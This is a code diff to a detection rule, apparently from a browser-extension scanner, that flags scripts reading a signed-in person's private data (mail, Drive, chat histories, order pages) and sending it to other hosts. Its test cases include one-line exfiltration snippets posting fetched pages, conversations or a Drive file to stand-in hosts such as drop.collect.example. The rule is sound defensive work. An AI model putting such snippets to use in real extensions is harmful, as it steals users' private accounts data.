@@ -1,4 +1,4 @@
-import { constant, pattern, propertyOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { constant, Op, pattern, propertyOf, type ScriptFacts } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
 import { hostOf, leadsOut, ownerOf, requestsOf, type Request } from './network.ts';
@@ -7,7 +7,7 @@ import { runsInPages } from './places.ts';
 import { few } from './usage.ts';
 
 /** Addresses whose answers hold the person's own things whenever they are signed in. */
-const PRIVATE = /\/\/(mail\.google\.com\/mail|gmail\.googleapis\.com\/|www\.googleapis\.com\/(gmail|drive)\/|graph\.microsoft\.com\/v[\d.]+\/me\/(messages|mailfolders|drive)|(chat\.openai|chatgpt)\.com\/(api|backend-api)|claude\.ai\/api|(business|adsmanager|graph|www|m)\.facebook\.com\/|www\.linkedin\.com\/(voyager|feed)|(x|twitter)\.com\/i\/api|www\.instagram\.com\/|discord\.com\/api\/v\d+\/users|outlook\.(live|office)\.com\/|myaccount\.google\.com|accounts\.google\.com|www\.paypal\.com\/|github\.com\/settings|www\.roblox\.com\/|api\.steampowered\.com|web\.whatsapp\.com)/i;
+const PRIVATE = /\/\/(mail\.google\.com\/mail|gmail\.googleapis\.com\/|www\.googleapis\.com\/(gmail|drive)\/|graph\.microsoft\.com\/v[\d.]+\/me\/(messages|mailfolders|drive)|(chat\.openai|chatgpt)\.com\/(api|backend-api)|claude\.ai\/api|(business|adsmanager|graph|www|m)\.facebook\.com\/|www\.linkedin\.com\/(voyager|feed)|(x|twitter)\.com\/i\/api|www\.instagram\.com\/|discord\.com\/api\/v\d+\/users|drive\.google\.com\/|docs\.google\.com\/(document|spreadsheets)\/d|outlook\.(live|office)\.com\/|myaccount\.google\.com|accounts\.google\.com|www\.paypal\.com\/|github\.com\/settings|www\.roblox\.com\/|api\.steampowered\.com|web\.whatsapp\.com)/i;
 
 /** Paths under which a site answers its signed-in person, asked from a script in its own pages. */
 const OWN_PAGES = /^\/(?!\/)[^?]*\b(backend-api|api\/(auth|me|account|user|organizations|conversations?|messages?|orders?)|account|orders?|order-history|inbox|messages?|settings|billing|wallet|me|profile|conversations?|voyager\/api|session)\b/i;
@@ -31,6 +31,12 @@ export const answersPassedOn = defineRule({
     const all = few(requestsOf(script), 200);
     const inPages = runsInPages(facts, file.path);
     const asked = all.filter((request) => (leadsOut(request.to) && hostOf(request.to) !== undefined && isPersonal(script, request)) || (inPages && OWN_PAGES.test(request.to)));
+    // `const ask = (u) => fetch(u, { credentials: 'include' })`: where it goes is said by who calls it.
+    for (const request of script.stats.values > BUNDLE ? [] : all) {
+      if (request.address === 0 || hostOf(request.to) !== undefined || !request.to.startsWith('*') || !request.sent.some((value) => constant(script, propertyOf(script, value, 'credentials')) === 'include')) continue;
+      const to = [...originsOf(script, request.address)].map((one) => (script.op[one] === Op.constant || script.op[one] === Op.concat ? pattern(script, one) : '')).find((text) => PRIVATE.test(text));
+      if (to !== undefined) asked.push({ ...request, to });
+    }
     if (asked.length === 0) return;
     for (const request of all) {
       const host = hostOf(request.to);
@@ -51,6 +57,7 @@ export const answersPassedOn = defineRule({
       backgroundExample('chrome.alarms.onAlarm.addListener(async () => { const html = await (await fetch("https://intranet.example.org/list", { credentials: "include" })).text(); await fetch("https://in.collect.example/raw", { method: "POST", body: html }); });'),
       contentExample('(async () => { const html = await (await fetch("/gp/css/order-history?year=2026")).text(); const doc = new DOMParser().parseFromString(html, "text/html"); const rows = [...doc.querySelectorAll(".order")].map((o) => ({ total: o.querySelector(".value")?.textContent })); await fetch("https://drop.collect.example/u", { method: "POST", body: JSON.stringify(rows) }); })();'),
       contentExample('async function* all() { const page = await (await fetch("/backend-api/conversations?limit=50")).json(); for (const { id } of page.items) yield (await fetch(`/backend-api/conversation/${id}`)).json(); } (async () => { for await (const c of all()) await fetch("https://folders.collect.example/i", { method: "POST", body: JSON.stringify(c) }); })();'),
+      backgroundExample('const ask = (u) => fetch(u, { credentials: "include" }); chrome.alarms.onAlarm.addListener(async () => { const r = await ask("https://drive.google.com/uc?export=download&id=1"); const buf = await r.arrayBuffer(); await fetch("https://up.collect.example/1", { method: "PUT", body: buf.slice(0, 65536) }); });'),
     ],
     good: [
       contentExample('(async () => { const me = await (await fetch("/api/me")).json(); show(me.name); fetch("https://tool.example/ping"); })();'),
